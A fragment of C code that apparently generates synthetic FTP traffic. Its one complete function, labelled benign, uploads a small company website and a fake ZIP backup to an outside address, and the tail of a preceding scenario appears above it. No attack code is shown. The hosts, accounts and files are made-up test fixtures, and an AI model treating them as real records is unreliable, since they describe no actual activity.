    ftp_upload(*lan_host(130), A4(185, 27, 134, 66), "u8812345", names, data, lens, 1);
}

void sc_ftp_benign(void)
{
    /* benign: a web designer uploads the company site and a dated backup */
    static const char html[] = "<html><head><title>Example Co.</title></head><body>"
                               "<h1>Welcome</h1><p>Contact us: info@example.co.jp</p></body></html>";
    static const char css[] = "body{font-family:sans-serif;margin:0}h1{color:#246}";
    static uint8_t pic[4100], zip[6000];
    size_t pn = png(pic, 4000);
    memcpy(zip, "PK\x03\x04", 4);
    random_bytes(zip + 4, sizeof zip - 4);
    const char *names[] = {"index.html", "style.css", "img/logo.png",
                           "backup/site_2024_05_14_1012.zip"};
    const void *data[] = {html, css, pic, zip};
    size_t lens[] = {sizeof html - 1, sizeof css - 1, pn, sizeof zip};
    ftp_upload(*lan_host(131), A4(185, 27, 134, 70), "examplecojp", names, data, lens, 4);
}
